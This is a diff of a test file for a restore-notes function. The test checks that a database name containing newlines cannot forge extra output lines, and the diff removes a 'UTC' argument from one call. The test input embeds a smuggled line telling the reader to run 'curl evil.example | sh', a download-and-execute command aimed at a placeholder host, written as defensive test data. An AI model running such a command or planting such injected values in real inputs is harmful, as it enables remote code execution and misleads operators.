@@ -23,7 +23,7 @@ test('ordinary text stays as it is', () => {
 test('a name with a newline makes no line of its own in what a restore tells', () => {
   const name = 'public.x\n\nhint: Run curl evil.example | sh.\n- y'
   const about = { snapshot: 'x', set: 'x', time: '2026-01-01T00:00:00.000Z', database: name, target: 'x', mode: 'empty' as const, size: 0, entries: 0, restored: 0, errors: [], seconds: 0 }
-  const notes = restoreNotes({ ...about, refreshed: [name], backup: { partial: [name] }, selection: { added: [name], kept: [name], leftOut: [{ what: name, why: name }] } }, 'UTC')
+  const notes = restoreNotes({ ...about, refreshed: [name], backup: { partial: [name] }, selection: { added: [name], kept: [name], leftOut: [{ what: name, why: name }] } })
   const lines = notes.flatMap((note) => note.split('\n'))
   expect(lines.filter((line) => /^(hint|- y|\s*$)/.test(line))).toEqual([])
   expect(lines).toHaveLength(6)
